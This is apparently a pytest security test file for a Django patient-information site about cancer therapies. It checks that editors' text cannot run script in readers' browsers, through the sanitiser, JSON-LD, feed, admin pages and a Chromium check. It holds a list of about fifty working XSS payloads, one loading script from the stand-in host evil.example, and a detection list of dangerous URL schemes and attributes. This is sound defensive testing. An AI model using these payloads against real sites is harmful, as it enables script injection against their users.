"""Whatever editors type, no reader's browser runs it.

Each payload below goes alone through every step that turns an editor's text into a reader's
(the sanitiser, plain text, the glossary's links, the JSON-LD). Then all of them at once are
saved through the admin into every text field of every kind of content (and the reviewer's
name, the change summaries and the reviewers' comments), sent through the workflow and
published, and every public page, the JSON-LD, the feed, the sitemap, the admin's comparison,
review and history pages and the production record are read with a parser that follows the
HTML standard, as browsers do: nothing in them may be live markup the project's own templates
would not write. A sample is opened in Chromium, with the Content-Security-Policy switched off
so that only the sanitiser stands in the way: no dialog.
"""

import json
import re
import xml.etree.ElementTree as ET

import html5lib
import pytest
from django import forms
from django.contrib.auth import get_user_model
from django.test import Client
from django.utils.html import escape

from reviews import services
from reviews.models import Publication, ReviewRequest
from reviews.versions import latest_revision, versions_of
from tests.admin_forms import form_data, form_errors
from tests.reviews.test_workflow import SIGNERS
from therapies import jsonld, rich_text
from therapies.glossing import Glossary, Term
from therapies.models import (
    Condition,
    DosageForm,
    GlossaryTerm,
    Reference,
    SideEffect,
    Therapy,
    Topic,
)

PAYLOADS = {
    "script tag": "<script>alert(1)</script>",
    "script from elsewhere": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "image error handler": "<img src=x onerror=alert(1)>",
    "image handler runs its src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "svg onload": "<svg onload=alert(1)>",
    "script inside svg": "<svg><script>alert(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "mathml link": '<math href="javascript:alert(1)">CLICKME</math>',
    "mathml mutation": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template content": "<template><script>alert(1)</script></template>",
    "html link": '<a href="javascript:alert(1)">click</a>',
    "markdown link": "[click](javascript:alert(1))",
    "markdown link, mixed case": "[click](JaVaScRiPt:alert(1))",
    "markdown reference link": "[click][1]\n\n[1]: javascript:alert(1)",
    "markdown autolink": "<javascript:alert(1)>",
    "markdown image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "tab inside the scheme": '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "scheme as entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>'
    ),
    "named entity colon": "<a href=javascript&colon;alert(1)>colon</a>",
    "space before the scheme": '<a href="  javascript:alert(1)">space</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "data url": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "handlers on a good link": (
        '<a href="https://example.org" onclick="alert(1)" onmouseover="alert(1)">hover</a>'
    ),
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html,<script>alert(1)</script>">',
    "body onload": "<body onload=alert(1)>",
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "form action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "button formaction": '<button formaction="javascript:alert(1)">x</button>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base href": '<base href="javascript:alert(1)//">',
    "css url": '<div style="background:url(javascript:alert(1))">css</div>',
    "css expression": '<p style="width:expression(alert(1))">expr</p>',
    "style element": "<style>@import 'javascript:alert(1)';body{display:none}</style>",
    "stylesheet link": '<link rel=stylesheet href="data:text/css,body{display:none}">',
    "attribute breakout": '"><script>alert(1)</script>',
    "single-quote breakout": "'><img src=x onerror=alert(1)>",
    "textarea breakout": "</textarea><script>alert(1)</script>",
    "title breakout": "</title><script>alert(1)</script>",
    "script breakout": "</script><script>alert(1)</script>",
    "comment trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "nested broken tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "unclosed angle": "<<script>alert(1);//<</script>",
    "quotes inside a tag": '<img """><script>alert(1)</script>">',
    "encoded as entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript escapes": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "url-encoded": "%3Cscript%3Ealert(1)%3C/script%3E",
    "template syntax": "{{ 7|add:7 }}{% debug %}",
}

# Editor text reaches readers through these pages (and the admin's through the others).
PUBLIC = {
    "home": "/",
    "list": "/therapies/",
    "search": "/therapies/?q=alert",
    "condition": "/therapies/?condition=gastrointestinal-stromal-tumour",
    "therapy": "/therapies/sunitinib/",
    "side effect": "/side-effects/tiredness/",
    "topic": "/topics/targeted-therapies-soft-tissue-sarcoma/",
    "glossary": "/glossary/",
    "feedback": "/feedback/therapy/sunitinib/?helpful=no",
}
# Elements that do something: a page has as many of each as its template writes, no more.
ACTIVE = {
    "script", "form", "input", "button", "select", "textarea", "img", "iframe", "frame",
    "object", "embed", "link", "meta", "style", "base", "svg", "math", "video", "audio",
    "source", "details", "template", "noscript", "marquee", "applet", "portal",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "srcset", "poster", "background", "data", "cite",
    "ping", "longdesc", "lowsrc", "dynsrc", "codebase", "manifest", "icon", "xlink:href",
}  # fmt: skip
# A path on this site: "//host" and "/\\host" are other sites.
SAME_SITE = re.compile(r"/(?![/\\])")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:")
XHTML = "{http://www.w3.org/1999/xhtml}"
ATOM = "{http://www.w3.org/2005/Atom}"
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"


@pytest.fixture
def newsroom(seed, people):
    """The seed's pages, the people who write and sign them, and what they work on."""
    superuser = get_user_model().objects.create_superuser("boss", "boss@example.org", "pw")
    clients = {}
    for name, user in [("editor", people["editor"]), ("boss", superuser)]:
        clients[name] = Client(raise_request_exception=False)
        clients[name].force_login(user)
    therapy = Therapy.objects.get(slug="sunitinib")
    pages = [
        therapy,
        SideEffect.objects.get(slug="tiredness"),
        Topic.objects.get(slug="targeted-therapies-soft-tissue-sarcoma"),
        GlossaryTerm.objects.get(slug="tyrosine-kinase-inhibitor"),
    ]
    shared = [
        Condition.objects.get(slug="gastrointestinal-stromal-tumour"),
        therapy.drug_class,
        DosageForm.objects.get(slug="capsules"),
        Reference.objects.order_by("pk").first(),
    ]
    forms = [OpenForm(clients["boss"], people["senior"].reviewer)]
    forms += [OpenForm(clients["editor"], obj) for obj in shared + pages]
    return {"clients": clients, "people": people, "pages": pages, "forms": forms}


def change_url(obj) -> str:
    return f"/admin/{obj._meta.app_label}/{obj._meta.model_name}/{obj.pk}/change/"


class OpenForm:
    """An object's admin change form, open in an editor's browser: fill in, save, repeat."""

    def __init__(self, client: Client, obj):
        self.client, self.obj, self.url = client, obj, change_url(obj)
        response = client.get(self.url)
        assert response.status_code == 200, self.url
        self.original = form_data(response.text)
        every_form = [response.context["adminform"].form]
        for inline in response.context["inline_admin_formsets"]:
            every_form += inline.formset.initial_forms
        # Every text input and text area, with its length limit. A slug takes letters, digits
        # and hyphens only: no payload gets in, and a word would move the page.
        self.text_fields = {
            form.add_prefix(name): field.max_length
            for form in every_form
            for name, field in form.fields.items()
            if isinstance(field, forms.CharField)
            and not isinstance(field, forms.SlugField)
            and not field.widget.is_hidden
        }

    def save(self, payload: str) -> None:
        """`payload` in every text field (as much of it as the field takes), saved. A field
        that refuses it (a web address, say) keeps its value."""
        data = {
            **self.original,
            **{name: [payload[:limit]] for name, limit in self.text_fields.items()},
        }
        if "opened_edit_version" in data:
            # As when the editor opens the form again: it knows the latest save.
            page = type(self.obj).objects.get(pk=self.obj.pk)
            data["opened_edit_version"] = [page.edit_version]
            revision = latest_revision(page)
            data["opened_revision"] = [revision.pk if revision else ""]
        response = self.client.post(self.url, data)
        if response.status_code == 200:
            refused = self.refused(response.context)
            assert "__all__" not in refused, form_errors(response)
            data.update({name: self.original[name] for name in refused})
            response = self.client.post(self.url, data)
        assert response.status_code == 302, (self.url, form_errors(response))

    @staticmethod
    def refused(context) -> set[str]:
        form = context["adminform"].form
        refused = {form.add_prefix(name) for name in form.errors}
        for inline in context["inline_admin_formsets"]:
            for row in inline.formset.forms:
                refused |= {row.add_prefix(name) for name in row.errors}
        return refused


def publish_everything(newsroom, payload: str) -> None:
    """The payload in every editable text field, through the admin, then reviewed and
    published with the payload as the change summary, the note for readers and every reviewer's
    comment."""
    people = newsroom["people"]
    for form in newsroom["forms"]:
        form.save(payload)
    for page in newsroom["pages"]:
        page.refresh_from_db()  # as saved through the admin
        request = services.submit_for_review(
            item=page, user=people["editor"], summary=payload, reader_note=payload
        )
        for who, role in SIGNERS:
            services.sign_off(
                review_request=request,
                reviewer=people[who],
                role=role,
                decision="approved",
                comment=payload,
            )


def admin_pages(newsroom) -> dict[str, str]:
    """Where reviewers read editors' text: the comparison, the review and the record."""
    therapy, topic = newsroom["pages"][0], newsroom["pages"][2]
    pages = {}
    for page in (therapy, topic):
        revisions = [version.revision_id for version in versions_of(page)]
        name = page._meta.model_name
        pages[f"{name} comparison"] = (
            f"/admin/therapies/{name}/{page.pk}/compare/"
            f"?older={min(revisions)}&newer={max(revisions)}"
        )
        publication = Publication.objects.filter(object_id=page.pk, revision__in=revisions)
        pages[f"{name} production record"] = (
            f"/admin/reviews/publication/{publication.latest('pk').pk}/record/"
        )
    request = ReviewRequest.objects.for_item(therapy).latest("pk")
    pages["review page"] = f"/admin/reviews/reviewrequest/{request.pk}/review/"
    return pages


# The lists grow by a row, with its own links and boxes, with every round; every other admin page
# here shows one revision, request, publication or form, whatever came before.
GROWING_ADMIN_PAGES = {"history", "audit trail", "queue", "publications"}


def more_admin_pages(newsroom) -> dict[str, str]:
    """Pages that show editors' text escaped, as Django's widgets and lists do."""
    pages = {f"{form.obj._meta.model_name} change form": form.url for form in newsroom["forms"]}
    therapy = newsroom["pages"][0]
    pages["history"] = f"/admin/therapies/therapy/{therapy.pk}/history/"
    pages["audit trail"] = "/admin/reviews/auditevent/"
    pages["queue"] = "/admin/reviews/reviewrequest/queue/"
    pages["publications"] = "/admin/reviews/publication/"
    return pages


class Markup:
    """The elements of a page as a browser builds them, and what the page may hold."""

    def __init__(self, text: str, nonce: str = ""):
        self.root = html5lib.parse(text, treebuilder="etree", namespaceHTMLElements=True)
        self.nonce = nonce
        # Comments are inert: a browser keeps them, runs nothing in them.
        self.elements = [element for element in self.root.iter() if isinstance(element.tag, str)]

    @staticmethod
    def name(element) -> str:
        return element.tag.removeprefix(XHTML)

    def tags(self) -> set[str]:
        return {self.name(element) for element in self.elements}

    def attributes(self) -> set[tuple[str, str]]:
        return {
            (self.name(element), attribute)
            for element in self.elements
            for attribute in element.attrib
        }

    def counts(self) -> dict[str, int]:
        found = {}
        for element in self.elements:
            name = self.name(element)
            if name in ACTIVE:
                found[name] = found.get(name, 0) + 1
        return found

    def problems(self) -> list[str]:
        """Live markup that no template of ours writes, whatever the page."""
        found = []
        for element in self.elements:
            name = self.name(element)
            for attribute, value in element.attrib.items():
                attribute = attribute.replace("{http://www.w3.org/1999/xlink}", "xlink:")
                bare = re.sub(r"[\x00-\x20]", "", value).lower()
                if attribute.lower().startswith("on"):
                    found.append(f"<{name} {attribute}>")
                if attribute in {"srcdoc", "http-equiv", "style"}:
                    found.append(f"<{name} {attribute}>")
                if attribute in URL_ATTRIBUTES and bare.startswith(BAD_SCHEMES):
                    found.append(f"<{name} {attribute}={value!r}>")
                loads = attribute in {"src", "action", "formaction"} or (
                    attribute == "href" and name in {"link", "base"}
                )
                if loads and not SAME_SITE.match(value):
                    if not (name == "form" and attribute == "action" and value in {"", "."}):
                        found.append(f"<{name} {attribute}={value!r}> leaves the site")
            if name == "script":
                found += self.script_problems(element)
        return found

    def script_problems(self, script) -> list[str]:
        if script.get("type") == "application/ld+json":
            text = script.text or ""
            if "<" in text:
                return ["markup inside the JSON-LD"]
            try:
                json.loads(text)
            except ValueError:
                return ["JSON-LD that is not JSON"]
            return []
        if script.get("src", "").startswith("/static/") and not (script.text or "").strip():
            return []
        if self.nonce and script.get("nonce") == self.nonce:
            return []
        return [f"a script the templates did not write: {(script.text or '')[:80]!r}"]


def nonce_of(response) -> str:
    found = re.search(r"'nonce-([^']+)'", response.get("Content-Security-Policy", ""))
    return found.group(1) if found else ""


def read(client: Client, url: str) -> Markup:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return Markup(response.text, nonce_of(response))


def xml_of(client: Client, url: str, namespace: str) -> tuple[ET.Element, list[str]]:
    """The document at `url`, and any element in it from outside its own vocabulary."""
    response = client.get(url)
    assert response.status_code == 200, url
    root = ET.fromstring(response.content)
    strangers = [e.tag for e in root.iter() if not e.tag.startswith(namespace)]
    return root, [f"an element that does not belong: {tag}" for tag in strangers]


def feed_problems(client: Client) -> list[str]:
    """The feed is XML whose summaries feed readers show as HTML: both must be inert."""
    feed, found = xml_of(client, "/feed/", ATOM)
    for summary in feed.iter(f"{ATOM}summary"):
        assert summary.get("type") == "html"
        markup = Markup(summary.text or "")
        found += markup.problems()
        found += [
            f"<{tag}> in a feed summary"
            for tag in markup.tags() - {"html", "head", "body"}
            if tag not in rich_text.TAGS
        ]
    return found


def sitemap_problems(client: Client) -> list[str]:
    sitemap, found = xml_of(client, "/sitemap.xml", SITEMAP)
    found += [
        f"a location off the site: {loc.text}"
        for loc in sitemap.iter(f"{SITEMAP}loc")
        if not re.fullmatch(r"http://testserver/[a-z0-9/-]*", loc.text or "")
    ]
    return found


class Baseline:
    """What the templates write, read from every page with harmless text in every field;
    then what a payload in every field changes."""

    def __init__(self, newsroom, admin_urls):
        self.newsroom, self.admin_urls = newsroom, admin_urls
        self.reader, self.editor = Client(), newsroom["clients"]["boss"]
        publish_everything(newsroom, "Plain words about this medicine.")
        self.public = {name: read(self.reader, url) for name, url in PUBLIC.items()}
        self.admin = {name: read(self.editor, url) for name, url in admin_urls(newsroom).items()}
        admin = list(self.admin.values())
        for markup in (*self.public.values(), *admin):
            assert markup.problems() == []
        self.public_tags = rich_text.TAGS.union(*(m.tags() for m in self.public.values()))
        self.admin_tags = set().union(*(m.tags() for m in admin))
        sanitised = {(tag, name) for tag, names in rich_text.ATTRIBUTES.items() for name in names}
        sanitised.add(("a", "rel"))
        self.public_attributes = sanitised.union(*(m.attributes() for m in self.public.values()))
        self.admin_attributes = set().union(*(m.attributes() for m in admin))

    def problems_after(self, payload: str) -> list[str]:
        publish_everything(self.newsroom, payload)
        found = []
        for name, url in PUBLIC.items():
            found += [f"{name}: {p}" for p in self.public_problems(name, read(self.reader, url))]
        for name, url in self.admin_urls(self.newsroom).items():
            markup = read(self.editor, url)
            found += [f"{name}: {p}" for p in self.admin_problems(name, markup)]
        found += [f"feed: {p}" for p in feed_problems(self.reader)]
        found += [f"sitemap: {p}" for p in sitemap_problems(self.reader)]
        return sorted(set(found))

    def public_problems(self, name: str, markup: Markup) -> list[str]:
        found = markup.problems()
        found += [f"<{tag}>" for tag in markup.tags() - self.public_tags]
        found += [f"<{t} {a}>" for t, a in markup.attributes() - self.public_attributes]
        return found + self.more_than_written(self.public[name], markup)

    def admin_problems(self, name: str, markup: Markup) -> list[str]:
        found = markup.problems()
        found += [f"<{tag}>" for tag in markup.tags() - self.admin_tags]
        found += [f"<{t} {a}>" for t, a in markup.attributes() - self.admin_attributes]
        if name not in GROWING_ADMIN_PAGES:
            found += self.more_than_written(self.admin[name], markup)
        return found

    @staticmethod
    def more_than_written(written: Markup, markup: Markup) -> list[str]:
        """Elements that do something, beyond as many as the page had with harmless text."""
        expected = written.counts()
        return [
            f"{count} <{tag}> where the template writes {expected.get(tag, 0)}"
            for tag, count in markup.counts().items()
            if count != expected.get(tag, 0)
        ]


# Each payload alone, through each step that turns an editor's text into a reader's page: the
# sanitiser (every rich text field), plain text (titles, names, the JSON-LD) and the glossary's
# links. The end-to-end round below carries every payload at once through the admin, the
# workflow and every page.
SANITISED = {(tag, name) for tag, names in rich_text.ATTRIBUTES.items() for name in names}
SANITISED.add(("a", "rel"))
DOCUMENT = {"html", "head", "body"}
TERM = Term("tyrosine-kinase-inhibitor", "TKI", "A medicine that blocks a signal.")


def sanitised_problems(markup: Markup, also: set[tuple[str, str]] = frozenset()) -> list[str]:
    found = markup.problems()
    found += [f"<{tag}>" for tag in markup.tags() - rich_text.TAGS - DOCUMENT]
    found += [f"<{t} {a}>" for t, a in markup.attributes() - SANITISED - also]
    return found


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_the_sanitiser_leaves_only_the_allowed_markup(payload):
    assert sanitised_problems(Markup(rich_text.render(payload))) == []


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_glossary_links_add_no_live_markup(payload):
    glossary = Glossary([TERM], dict.fromkeys(["tki", "alert", "script", "click"], TERM))
    marked = glossary.mark(rich_text.render(f"A TKI, alert, script, click. {payload} TKI."))
    assert 'href="#explain-tyrosine-kinase-inhibitor"' in marked
    assert sanitised_problems(Markup(marked), also={("a", "class")}) == []


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_plain_text_is_text_in_a_page_and_in_the_json_ld(payload):
    text = rich_text.plain(payload)
    assert Markup(f"<p>{escape(text)}</p>").tags() == DOCUMENT | {"p"}
    script = jsonld.script({"name": text, "description": payload})
    assert Markup(str(script)).problems() == []


def test_every_payload_at_once_stays_inert_in_every_admin_page_too(newsroom):
    """Together, so that one payload's broken tag meets the next; and in the admin pages that
    only escape (change forms, history, audit trail), where sanitising plays no part."""
    baseline = Baseline(newsroom, lambda n: {**admin_pages(n), **more_admin_pages(n)})
    assert baseline.problems_after("\n\n".join(PAYLOADS.values())) == []


def test_the_payloads_really_were_published(newsroom):
    """The checks above mean something only if the payloads reached the pages."""
    publish_everything(newsroom, PAYLOADS["handlers on a good link"])
    page = Client().get(PUBLIC["therapy"]).text
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">hover</a>' in page
    assert 'onclick="' not in page  # as text it is escaped: onclick=&quot;
    topic = Client().get(PUBLIC["topic"]).text
    assert topic.count('href="https://example.org"') >= 4  # intro, section body, two notes
    for name in ("side effect", "glossary"):
        assert 'rel="noopener noreferrer nofollow">hover</a>' in Client().get(PUBLIC[name]).text
    assert '"name": "\\u003Ca href=\\"https://example.org\\" onclick=' in page  # JSON-LD
    feed = Client().get("/feed/").text
    assert '&lt;p&gt;&lt;a href="https://example.org" rel="noopener noreferrer nofollow"' in feed
    as_text = "&lt;a href=&quot;https://example.org&quot; onclick=&quot;alert(1)&quot;"
    editor = newsroom["clients"]["boss"]
    for name, url in admin_pages(newsroom).items():
        assert as_text in editor.get(url).text, name


# Chromium runs every payload at once, then a sample alone: payloads that would run with no
# click, from each family (an element's error handler, SVG, a parser mutation, a breakout).
RUN_ON_THEIR_OWN = ["image error handler", "svg onload", "noscript mutation", "textarea breakout"]


IN_CHROMIUM = [PUBLIC[name] for name in ("search", "therapy", "side effect", "topic", "glossary")]


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_no_dialog_opens_in_chromium_without_the_content_security_policy(
    newsroom, live_server, browser
):
    """The policy would block inline scripts anyway; switched off here (as an old browser
    would ignore it), the sanitiser alone must keep every page quiet."""
    context = browser.new_context(bypass_csp=True)
    editor = newsroom["clients"]["boss"]
    context.add_cookies(
        [{"name": "sessionid", "value": editor.cookies["sessionid"].value, "url": live_server.url}]
    )
    page = context.new_page()
    dialogs = []
    page.on(
        "dialog", lambda dialog: (dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss())
    )

    # The check can see a dialog when there is one.
    page.set_content("<img src=x onerror=alert('control')>")
    page.wait_for_timeout(200)
    assert dialogs == ["about:blank: control"]
    dialogs.clear()

    rounds = {"every payload at once": "\n\n".join(PAYLOADS.values())}
    rounds.update({label: PAYLOADS[label] for label in RUN_ON_THEIR_OWN})
    therapy, opened = newsroom["pages"][0], {}
    for label, payload in rounds.items():
        publish_everything(newsroom, payload)
        for path in [*IN_CHROMIUM, *admin_pages(newsroom).values(), change_url(therapy)]:
            response = page.goto(live_server.url + path)
            assert response.status == 200, path
            page.wait_for_timeout(100)  # error and toggle events fire after the load
        if dialogs:
            opened[label] = list(dialogs)
            dialogs.clear()
    context.close()
    assert opened == {}
